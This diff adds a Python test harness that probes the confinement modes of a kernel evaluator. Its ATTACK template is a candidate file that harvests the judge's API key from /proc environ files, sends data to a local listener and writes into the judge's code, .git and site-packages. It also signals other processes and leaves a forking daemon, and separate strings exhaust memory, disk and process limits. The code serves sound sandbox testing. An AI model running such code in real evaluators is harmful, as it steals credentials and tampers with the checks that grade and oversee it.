@@ -1,0 +1,371 @@
+"""What a candidate can do from inside the judge's runners, tried for real, per confinement mode and user.
+
+`attack_source` is a torch-backend rope file that, when its runner imports it, tries everything at once
+and reports what worked in the exception it raises (the judge records a failed import's message):
+
+- a secret: reads every /proc/PID/environ it can for the judge's API key (a shell above the judge holds it);
+- the network: a TCP connection to a listener of the test's on 127.0.0.1;
+- writes: the checkout's judge code, its .git, the incumbent file, the interpreter's site-packages;
+- signals: which processes outside its own tree it may signal (kill with signal 0) or renice;
+- a daemon: a double fork, a new session, a loop that keeps forking, marked by a token in its environment.
+
+`judge` runs one evaluation of a file in a fresh process, as root or as another user, in a confinement
+mode, with the secret in the environment of a shell that stays its parent; `survivors` finds a daemon's
+processes after the evaluation ended. tests/tools/evaluator/test_confinement.py asserts what each mode
+stops; benchmarks/probes/confinement_table.py prints the same as a table.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pwd
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import uuid
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from tools.paths import PROJECT_ROOT
+
+USER = "kw-confine-test"
+SECRET_PREFIX = "kw-secret-"
+ROPE = PROJECT_ROOT / "kernels" / "rope" / "candidates.py"
+
+HONEST_ROPE = """
+def rope(x, sin, cos, *, out=None):
+    half = x.shape[-1] // 2
+    xf = x.float()
+    s, c = sin[: x.shape[1], None, :].float(), cos[: x.shape[1], None, :].float()
+    result = torch.cat((xf[..., :half] * c - xf[..., half:] * s, xf[..., half:] * c + xf[..., :half] * s), -1)
+    if out is None:
+        out = torch.empty_like(x)
+    out.copy_(result)
+    return out
+"""
+
+ATTACK = """
+import json
+import os
+import socket
+import sysconfig
+
+import torch
+
+_report = {}
+
+
+def _descendants(root):
+    found, queue = set(), [root]
+    while queue:
+        pid = queue.pop()
+        try:
+            tasks = os.listdir(f"/proc/{pid}/task")
+            kids = [int(k) for t in tasks for k in open(f"/proc/{pid}/task/{t}/children").read().split()]
+        except OSError:
+            kids = []
+        for kid in kids:
+            if kid not in found:
+                found.add(kid)
+                queue.append(kid)
+    return found
+
+
+_visible = [int(p) for p in os.listdir("/proc") if p.isdigit()]
+_report["secret"] = False
+for _pid in _visible:
+    try:
+        if SECRET_PREFIX.encode() in open(f"/proc/{_pid}/environ", "rb").read():
+            _report["secret"] = True
+    except OSError:
+        pass
+try:
+    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as _s:
+        _s.sendall(b"exfiltrated")
+    _report["tcp"] = True
+except OSError:
+    _report["tcp"] = False
+for _label, _path in TARGETS.items():
+    try:
+        with open(_path, "a") as _f:
+            _f.write("# written by a candidate\\n")
+        _report["write " + _label] = True
+    except OSError:
+        _report["write " + _label] = False
+_mine = {os.getpid()} | _descendants(os.getpid())
+_signalled, _reniced = 0, 0
+for _pid in _visible:
+    if _pid in _mine:
+        continue
+    try:
+        os.kill(_pid, 0)
+        _signalled += 1
+    except OSError:
+        pass
+    try:
+        os.setpriority(os.PRIO_PROCESS, _pid, os.getpriority(os.PRIO_PROCESS, _pid))
+        _reniced += 1
+    except OSError:
+        pass
+_report["signal others"] = _signalled
+_report["renice others"] = _reniced
+if os.fork() == 0:
+    try:
+        os.setsid()
+        if os.fork() == 0:
+            _loop = "while :; do (sleep 30 &) ; sleep 1; done"
+            os.execve("/bin/sh", ["sh", "-c", _loop], {"KW_ATTACK": TOKEN, "PATH": "/usr/bin:/bin"})
+    finally:
+        os._exit(0)
+os.wait()
+raise RuntimeError("ATTACK " + json.dumps(_report))
+"""
+
+HOGS = {
+    # resident memory far past the limit the test sets (KW_RUNNER_MEMORY_MB)
+    "memory": "import time\n_hog = bytearray(1500 * 2**20)\nfor _i in range(0, len(_hog), 4096):\n    _hog[_i] = 1\n"
+    "time.sleep(20)\n",
+    # bytes written past KW_RUNNER_WRITE_MB, in the runner's own scratch folder
+    "disk": "import os, time\nwith open(os.path.join(os.environ['TMPDIR'], 'fill'), 'wb') as _f:\n"
+    "    for _i in range(400):\n        _f.write(b'x' * 2**20)\n        _f.flush()\ntime.sleep(20)\n",
+    # processes past KW_RUNNER_PROCESSES
+    "processes": "import os, time\n_kids = []\nfor _i in range(300):\n    _pid = os.fork()\n    if _pid == 0:\n"
+    "        time.sleep(60)\n        os._exit(0)\n    _kids.append(_pid)\ntime.sleep(20)\n",
+}
+HOG_LIMITS = {"KW_RUNNER_MEMORY_MB": "900", "KW_RUNNER_WRITE_MB": "64", "KW_RUNNER_PROCESSES": "128"}
+
+
+@dataclass
+class Outcome:
+    """One evaluation's verdict on an attacking file, and what the test saw from outside."""
+
+    mode: str
+    user: str
+    record: dict
+    report: dict = field(default_factory=dict)  # what the candidate says worked
+    received: list[bytes] = field(default_factory=list)  # what reached the test's TCP listener
+    changed: dict[str, bool] = field(default_factory=dict)  # the files it tried to write, as found after
+    survivors: int = 0  # the daemon's processes left after the evaluation
+    seconds: float = 0.0
+
+    @property
+    def message(self) -> str:
+        return self.record.get("message", "")
+
+
+def attack_source(token: str, port: int, targets: dict[str, str]) -> str:
+    body = (
+        ATTACK.replace("SECRET_PREFIX", repr(SECRET_PREFIX))
+        .replace("PORT", str(port))
+        .replace("TARGETS", repr(targets))
+        .replace("TOKEN", repr(token))
+    )
+    return body + HONEST_ROPE
+
+
+def hog_source(kind: str) -> str:
+    return "import torch\n" + HOGS[kind] + HONEST_ROPE
+
+
+def ensure_user() -> str | None:
+    """The unprivileged user the tests judge as (created when root); None where it cannot be had."""
+    try:
+        pwd.getpwnam(USER)
+        return USER
+    except KeyError:
+        pass
+    if os.geteuid() != 0:
+        return None
+    result = subprocess.run(["useradd", "--no-create-home", "--shell", "/bin/sh", USER], capture_output=True)
+    return USER if result.returncode == 0 else None
+
+
+def user_can_run_python(user: str) -> bool:
+    probe = subprocess.run(
+        ["runuser", "-u", user, "--", sys.executable, "-c", "import torch"], capture_output=True, timeout=300
+    )
+    return probe.returncode == 0
+
+
+class Listener:
+    """A TCP listener on 127.0.0.1 that keeps what it receives."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(8)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received: list[bytes] = []
+        self._stop = False
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(1)
+                try:
+                    self.received.append(conn.recv(1024))
+                except OSError:
+                    self.received.append(b"")
+
+    def close(self) -> None:
+        self._stop = True
+        self._thread.join(timeout=2)
+        self.sock.close()
+
+
+def project_copy(folder: Path, owner: str | None) -> Path:
+    """A checkout the attack may try to write: the packages a judge imports, a .git, owned by `owner`."""
+    root = folder / "project"
+    for name in ("kernels", "tools", "agent", "prompts"):
+        shutil.copytree(PROJECT_ROOT / name, root / name, ignore=shutil.ignore_patterns("__pycache__"))
+    (root / ".git").mkdir()
+    (root / ".git" / "config").write_text("[core]\n")
+    _hand_over(folder, owner)
+    return root
+
+
+def _hand_over(folder: Path, owner: str | None) -> None:
+    os.chmod(folder, 0o755)
+    if owner is None or os.geteuid() != 0:
+        return
+    uid, gid = pwd.getpwnam(owner).pw_uid, pwd.getpwnam(owner).pw_gid
+    for root, dirs, files in os.walk(folder):
+        os.chown(root, uid, gid)
+        for name in files:
+            os.chown(os.path.join(root, name), uid, gid)
+        for name in dirs:
+            os.chown(os.path.join(root, name), uid, gid)
+
+
+DRIVER = """
+import json, sys
+from tools.evaluator.evaluate import evaluate
+record = evaluate(
+    "rope", "torch", sys.argv[1], incumbent=sys.argv[2], shapes=["llama3.2-1b/decode1/q"], device="cpu",
+    batches=3, baselines=(), static_check=False, allow_unconfined=True, other_dtypes=False, timeout_s=240,
+)
+open(sys.argv[3], "w").write(record.model_dump_json())
+"""
+
+
+def judge(attack: str, mode: str, user: str | None, *, env: dict[str, str] | None = None) -> Outcome:
+    """One evaluation of an attacking file in a fresh process, as `user` (None: this process's), in `mode`.
+
+    `attack`: "all" (ATTACK) or a key of HOGS. The secret sits in the environment of the shell that starts
+    the judge and stays its parent.
+    """
+    token = uuid.uuid4().hex[:12]
+    folder = Path(tempfile.mkdtemp(prefix="kw-confine-"))
+    listener = Listener()
+    try:
+        root = project_copy(folder, user)
+        work = folder / "work"
+        work.mkdir()
+        incumbent = work / "incumbent.py"
+        incumbent.write_text("import torch\n" + HONEST_ROPE)
+        site = Path(__import__("sysconfig").get_paths()["purelib"])
+        targets = {
+            "judge code": str(root / "tools" / "evaluator" / "decide.py"),
+            ".git": str(root / ".git" / "config"),
+            "incumbent": str(incumbent),
+            "site-packages": str(site / f"kw-attack-{token}.py"),
+        }
+        before = {label: _digest(path) for label, path in targets.items()}
+        candidate = work / "candidate.py"
+        candidate.write_text(attack_source(token, listener.port, targets) if attack == "all" else hog_source(attack))
+        (work / "drive.py").write_text(DRIVER)
+        result = work / "record.json"
+        _hand_over(work, user)
+        shell_env = {
+            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
+            "PYTHONPATH": str(root),
+            "KW_CONFINEMENT": mode,
+            "OPENAI_API_KEY": f"{SECRET_PREFIX}{token}",
+            "KW_RUNNER_DIR": str(folder / "runners"),
+            **(env or {}),
+        }
+        command = [sys.executable, str(work / "drive.py"), str(candidate), str(incumbent), str(result)]
+        script = " ".join(f"'{part}'" for part in command) + "; true"  # the shell stays the judge's parent
+        runner = ["bash", "-c", script]
+        if user is not None and os.geteuid() == 0:
+            runner = ["runuser", "-u", user, "--", "env", *[f"{k}={v}" for k, v in shell_env.items()], *runner]
+        started = time.monotonic()
+        subprocess.run(runner, env=shell_env, cwd=str(work), timeout=600, capture_output=True)
+        seconds = time.monotonic() - started
+        record = json.loads(result.read_text()) if result.exists() else {"message": "no record written"}
+        outcome = Outcome(mode=mode, user=user or "root", record=record, seconds=seconds)
+        marker = "ATTACK "
+        if marker in outcome.message:
+            outcome.report = json.loads(outcome.message.split(marker, 1)[1].split("}", 1)[0] + "}")
+        outcome.received = list(listener.received)
+        outcome.changed = {label: _digest(path) != before[label] for label, path in targets.items()}
+        Path(targets["site-packages"]).unlink(missing_ok=True)
+        time.sleep(1.0)
+        outcome.survivors = survivors(token)
+        return outcome
+    finally:
+        listener.close()
+        kill_survivors(token)
+        shutil.rmtree(folder, ignore_errors=True)
+
+
+def _digest(path: str) -> str | None:
+    try:
+        return Path(path).read_text()
+    except OSError:
+        return None
+
+
+def _marked(token: str) -> list[int]:
+    found = []
+    needle = f"KW_ATTACK={token}".encode()
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                if needle in open(f"/proc/{entry}/environ", "rb").read():
+                    found.append(int(entry))
+            except OSError:
+                continue
+    return found
+
+
+def survivors(token: str) -> int:
+    """Processes of the attack's daemon still alive (this process must be able to read their environment)."""
+    return len(_marked(token))
+
+
+def kill_survivors(token: str) -> None:
+    for _ in range(20):
+        pids = _marked(token)
+        if not pids:
+            return
+        for pid in pids:
+            try:
+                os.kill(pid, 9)
+            except OSError:
+                continue
+        time.sleep(0.1)
+
+
+def modes() -> list[str]:
+    from tools.evaluator import sandbox
+
+    found = sandbox.mechanisms()
+    available = ["none"]
+    if found.landlock_abi:
+        available.insert(0, "landlock")
+    if found.bwrap:
+        available.insert(0, "namespaces")
+    return available
